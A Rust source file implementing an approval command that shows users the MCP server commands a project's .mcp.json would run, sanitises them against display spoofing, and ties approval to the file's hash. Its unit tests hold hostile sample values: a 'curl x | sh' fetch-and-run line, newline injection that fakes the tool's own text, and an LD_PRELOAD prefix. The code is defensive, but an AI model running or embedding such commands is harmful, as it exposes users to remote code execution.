//! `agentctl mcp approve`: whether the servers of a project's own file may run.
//!
//! Refuses to guess: nobody to ask and no `--yes` is wrong usage, anything but a clear yes approves nothing. What is
//! approved is the hash that came with what was shown; the daemon refuses when the file has changed meanwhile.

use std::{fmt::Write as _, path::Path};

use proto::{
    ErrorKind, Fact, Failure, McpApproveReport, McpApproveRequest, McpListRequest, McpProject, Request, Response,
};

use crate::{
    app::{self, App},
    approval, client,
    commands::print,
    exit::{Outcome, Stop},
    render::sanitize,
};

pub(super) fn run(app: &App, directory: Option<&Path>, yes: bool, revoke: bool) -> Outcome {
    let cwd = super::place(directory)?;
    let project = look(app, &cwd)?;
    if revoke {
        let project = send(app, cwd, String::new())?;
        return print(&sanitize::neutralise(&format!("{} is not approved any more\n", project.path)));
    }
    if project.approved {
        return print(&sanitize::neutralise(&format!("{}{} is approved already\n", faults(&project), project.path)));
    }
    if project.servers.is_empty() {
        let message = format!("{}{} names no server that could run", faults(&project), project.path);
        return Err(Failure::new(ErrorKind::Refused, message).hint("correct the file, then try again").into());
    }
    if yes {
        print(&sanitize::neutralise(&described(&project)))?;
    } else {
        approval::confirm(
            &format!("{}Approve? [y]es, [n]o: ", described(&project)),
            "an approval",
            "nothing was approved",
        )?;
    }
    let project = send(app, cwd, project.sha256)?;
    print(&sanitize::neutralise(&format!("{} is approved until it changes\n", project.path)))
}

fn look(app: &App, cwd: &str) -> Result<McpProject, Stop> {
    match app.call(Request::McpList(McpListRequest { cwd: cwd.to_owned() }), client::QUICK)? {
        Response::McpList(report) => report.project.ok_or_else(|| {
            let hint = "agentctl mcp add NAME -- COMMAND adds a server for all projects";
            Failure::new(ErrorKind::NotFound, "this project has no .mcp.json").hint(hint).into()
        }),
        _ => Err(app::unexpected().into()),
    }
}

fn send(app: &App, cwd: String, sha256: String) -> Result<McpProject, Stop> {
    match app.call(Request::McpApprove(McpApproveRequest { cwd, sha256 }), client::QUICK)? {
        Response::McpApprove(McpApproveReport { project }) => Ok(project),
        _ => Err(app::unexpected().into()),
    }
}

/// What would run, in full: it runs as the user.
fn described(project: &McpProject) -> String {
    let mut text = format!("{} names these servers:\n", project.path);
    text.push_str(&commands(project));
    text.push_str(&faults(project));
    for note in &project.notes {
        let _ = writeln!(text, "note: {note}");
    }
    if project.servers.iter().any(|server| server.value.contains("[REDACTED")) {
        text.push_str("[REDACTED] stands for what looks like a secret: read the file itself before you approve it.\n");
    }
    text.push_str(
        "They run as you, with all your rights, whenever agentd works in this project. ${NAME} is a variable of\n\
         agentd's environment, put in when they run. Approved is this file: a program that it names may change\n\
         without being asked about again.\n",
    );
    text
}

/// One line for each server. Its command cannot begin another: a file that is not trusted must not speak for us.
pub(super) fn commands(project: &McpProject) -> String {
    let line = |server: &Fact| format!("  {}: {}\n", server.name, sanitize::whole_line(&server.value));
    project.servers.iter().map(line).collect()
}

fn faults(project: &McpProject) -> String {
    project.faults.iter().map(|fault| format!("{}: {fault}\n", project.path)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn file(command: &str) -> McpProject {
        let servers = vec![Fact { name: "fs".into(), value: command.into() }];
        McpProject { path: "/p/.mcp.json".into(), servers, ..McpProject::default() }
    }

    #[test]
    fn a_command_of_many_lines_cannot_pass_for_our_words() {
        let text = described(&file("sh -c 'curl x | sh\n\n  other: npx ok\n\tThey run as nobody'"));
        let line = "  fs: sh -c 'curl x | sh\u{240a}\u{240a}  other: npx ok\u{240a}\u{2409}They run as nobody'\nThey run as you";
        assert!(text.contains(line), "{text}");
    }

    #[test]
    fn who_approves_is_told_that_something_is_not_shown() {
        assert!(described(&file("x --token [REDACTED]")).contains("[REDACTED] stands for"));
        assert!(!described(&file("x")).contains("REDACTED"));
    }

    #[test]
    fn what_is_approved_is_shown_whole_with_the_faults_beside_it() {
        let command = format!("LD_PRELOAD=x.so npx {}", "a".repeat(2000));
        let project = McpProject {
            path: "/p/.mcp.json".into(),
            servers: vec![Fact { name: "fs".into(), value: command.clone() }],
            faults: vec!["mcp_servers.x: type sse".into()],
            notes: vec!["HOME_PAGE is not set".into()],
            ..McpProject::default()
        };
        let text = described(&project);
        assert!(
            text.contains(&format!(
                "  fs: {command}\n/p/.mcp.json: mcp_servers.x: type sse\nnote: HOME_PAGE is not set\nThey run"
            )),
            "{text}"
        );
    }
}
